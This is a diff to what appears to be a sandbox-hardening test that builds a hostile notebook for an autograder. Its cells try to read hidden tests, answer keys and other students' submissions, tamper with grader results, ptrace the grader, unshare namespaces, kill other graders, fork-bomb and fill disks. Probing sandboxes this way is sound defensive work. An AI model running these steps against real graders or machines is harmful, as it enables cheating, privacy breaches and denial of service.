@@ -13,7 +13,7 @@ from __future__ import annotations
 from . import blank, with_cell
 
 ATTACK = r'''
-import glob, json, os, signal, socket, time
+import ctypes, glob, json, os, signal, socket, time
 
 CHECKOUT, MARK, PORT, TOKEN = {checkout!r}, {mark!r}, {port!r}, {token!r}
 report = {{}}
@@ -28,8 +28,9 @@ def attempt(name, action):
 
 def read_any(patterns):
     found = []
-    for pattern in patterns:
-        for path in glob.glob(pattern, recursive=True):
+    for pattern in patterns:   # "**" stands for up to four directories (not a whole tree)
+        for path in [p for depth in range(5) for p in
+                     glob.glob(pattern.replace("**", "/".join(["*"] * depth) or "."))]:
             try:
                 with open(path, "rb") as fh:
                     if fh.read(64):
@@ -55,6 +56,27 @@ def write_all(paths):
     return written
 
 
+def abstract_socket():
+    sock = socket.socket(socket.AF_UNIX)
+    sock.settimeout(3)
+    sock.connect("\0backprop-escape-" + TOKEN)
+    return "connected"
+
+
+def libc_call(name, *args):
+    libc = ctypes.CDLL(None, use_errno=True)
+    result = getattr(libc, name)(*args)
+    if result == -1:
+        raise OSError(ctypes.get_errno(), name)
+    return result
+
+
+def shared_memory_file():
+    with open("/dev/shm/backprop-escape-" + TOKEN, "wb") as fh:
+        fh.write(b"x" * (1 << 20))
+    return "1 MB"
+
+
 def fill(name, chunk, count):
     total = 0
     with open(name, "wb") as fh:
@@ -63,16 +85,6 @@ def fill(name, chunk, count):
             fh.flush()
             total += chunk
     return total
-
-
-def fill_many(count, size):
-    total = 0
-    try:
-        for i in range(count):
-            total += fill(f"filler{{i}}.bin", size, 1)
-    except OSError:
-        pass
-    return f"{{total >> 20}} MB"
 
 
 def survivor():
@@ -132,16 +144,20 @@ def kill_other_graders():
 attempt("read_hidden_tests", lambda: read_any([
     "/autograder/source/tests/*.py", "/tmp/backprop-source-*/source/tests/*.py",
     "/tmp/**/source/tests/q1.py", "../source/tests/*.py", "/proc/1/root/tmp/**/tests/q1.py"]))
-attempt("read_reference", lambda: read_any([
-    "/tmp/**/backprop_reference.py", CHECKOUT + "/solutions/*", "/proc/*/cwd/files/*.py"]))
-attempt("read_zip", lambda: read_any([CHECKOUT + "/autograder/autograder.zip",
-                                      "/tmp/**/autograder.zip"]))
+attempt("read_reference", lambda: read_any([   # the grader's copies
+    "/autograder/source/files/backprop_reference.py", "/tmp/backprop-*/**/backprop_reference.py",
+    "../source/files/*.py", "/proc/*/cwd/files/*.py"]))
+attempt("read_checkout", lambda: read_any([   # copies readable by every user of the machine
+    CHECKOUT + "/solutions/*", CHECKOUT + "/autograder/autograder.zip",
+    "/tmp/**/backprop_reference.py", "/tmp/**/autograder.zip"]))
+attempt("read_zip", lambda: read_any(["/tmp/backprop-*/**/autograder.zip", "/autograder/*.zip"]))
 attempt("read_other_submissions", lambda: read_any([
-    "/tmp/backprop-grade-*/submission/*", "/tmp/**/" + TOKEN + "/**/*.ipynb"]))
+    "/tmp/backprop-grade-*/submission/*", "/tmp/**/" + TOKEN + "/submissions/*.ipynb"]))
 attempt("write_outside", lambda: write_all([
-    MARK, CHECKOUT + "/escape-mark", "/tmp/backprop-escape-mark", "/escape-mark",
+    MARK, CHECKOUT + "/escape-mark", "/escape-mark",
     CHECKOUT + "/.venv/lib/python3.11/site-packages/escape.pth"]
     + glob.glob("/tmp/backprop-grade-*/results/results.json")))
+attempt("write_shared_tmp", lambda: write_all(["/tmp/backprop-escape-mark"]))
 def one_big_file():
     try:
         return f"{{fill('big.bin', 1 << 20, 100) >> 20}} MB"
@@ -150,17 +166,17 @@ def one_big_file():
 
 
 attempt("one_file_beyond_cap", one_big_file)
-attempt("work_dir_beyond_cap", lambda: fill_many(3, 30 << 20))
 attempt("network_loopback", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3))
 attempt("network_internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
+attempt("network_abstract_unix", abstract_socket)
+attempt("ptrace_grader", lambda: libc_call("ptrace", 16, os.getppid(), 0, 0))   # ATTACH
+attempt("memfd", lambda: os.memfd_create("backprop-escape"))
+attempt("sysv_shared_memory", lambda: libc_call("shmget", 0, 1 << 20, 0o1600))
+attempt("new_namespace", lambda: libc_call("unshare", 0x10000000))   # CLONE_NEWUSER
+attempt("posix_shared_memory", shared_memory_file)
 attempt("kill_other_graders", kill_other_graders)
 attempt("survivor", survivor)
 attempt("fork_bomb", fork_bomb)
-for name in glob.glob("filler*.bin") + ["big.bin"]:
-    try:
-        os.remove(name)
-    except OSError:
-        pass
 
 
 class EscapeReport(Exception):
@@ -171,7 +187,36 @@ raise EscapeReport("ESCAPE " + json.dumps(report))
 '''
 
 
+# Disk fills, each in a cell of its own: where the grader ends the worker for passing the
+# cap, the cell is recorded as crashed and the worker restarted without it (the attack cell
+# after them still reports). Where the file system refuses, the cell removes what it wrote and
+# raises "FILLED <n> MB".
+FILL = r'''
+import os
+total, names, error = 0, [], ""
+try:
+    for i in range({count}):
+        names.append(os.path.join({where!r}, f"backprop-fill-{{i}}.bin"))
+        with open(names[-1], "wb") as fh:
+            for _ in range(30):
+                fh.write(b"x" * (1 << 20))
+                total += 1 << 20
+except OSError as exc:
+    error = f": {{exc}}"
+for name in names:   # what it could write is measured; the next cells start from nothing
+    try:
+        os.remove(name)
+    except OSError:
+        pass
+raise OSError(f"FILLED {{total >> 20}} MB in {where}{{error}}")
+'''
+FILL_PLACES = (".", "/tmp", "/dev/shm")   # the work directory, then shared writable ones
+FILL_MB = 600
+
+
 def escaping(checkout: str, mark: str, port: int, token: str):
-    """The blank notebook with the attack as its last cell."""
-    return with_cell(blank(), ATTACK.format(checkout=checkout, mark=mark, port=port,
-                                            token=token))
+    """The blank notebook with the disk fills and then the attack as its last cells."""
+    nb = blank()
+    for where in FILL_PLACES:
+        nb = with_cell(nb, FILL.format(where=where, count=FILL_MB // 30))
+    return with_cell(nb, ATTACK.format(checkout=checkout, mark=mark, port=port, token=token))
